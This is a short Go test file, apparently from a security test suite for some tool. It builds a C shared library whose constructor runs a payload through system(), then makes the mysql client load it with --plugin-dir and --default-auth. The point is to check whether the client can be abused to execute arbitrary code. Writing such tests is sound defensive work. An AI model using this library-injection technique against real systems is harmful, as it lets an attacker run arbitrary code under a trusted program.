package attack

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// library compiles C into a shared object that the tool can load.
func library(t *testing.T, name, source string) (dir string) {
	t.Helper()
	dir = filepath.Join(world.scripts, "lib")
	must(t, os.MkdirAll(dir, 0o755))
	c := filepath.Join(t.TempDir(), name+".c")
	must(t, os.WriteFile(c, []byte(source), 0o644))
	out, err := exec.Command("gcc", "-shared", "-fPIC", "-o", filepath.Join(dir, name+".so"), c).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return dir
}

// constructor runs the payload when it is loaded.
const constructor = "#include <stdlib.h>\n__attribute__((constructor)) static void run(void) { system(\"" + payload + "\"); }\n"

// TestMysqlPluginDir: the client loads code from where it is told. The code runs, as the tool; no program does.
func TestMysqlPluginDir(t *testing.T) {
	dir := library(t, "evil", constructor)
	mysql([]string{"--plugin-dir=" + dir, "--default-auth=evil", "-e", "select 1"}).try(t)
}
